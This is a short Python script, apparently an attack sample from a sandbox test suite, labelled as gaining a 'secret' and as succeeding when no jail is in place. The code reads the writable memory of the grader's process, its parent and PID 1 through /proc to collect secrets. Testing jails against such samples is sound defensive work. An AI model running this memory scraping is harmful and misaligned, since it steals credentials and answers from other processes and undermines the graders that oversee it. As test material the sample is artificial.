"""Reads the memory of every process that it can name, its parent's and the grader's among them.

gain: secret
succeeds without: jail
"""

# %%
import os


def scan(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        for line in maps:
            span, mode, *_ = line.split()
            start, end = (int(part, 16) for part in span.split("-"))
            if mode[:2] == "rw" and end - start < 2**26:
                try:
                    memory.seek(start)
                    take(memory.read(end - start))
                except (OSError, OverflowError, ValueError):
                    pass


for pid in (HOST["process"], os.getppid(), 1):
    try:
        scan(pid)
    except OSError:
        pass
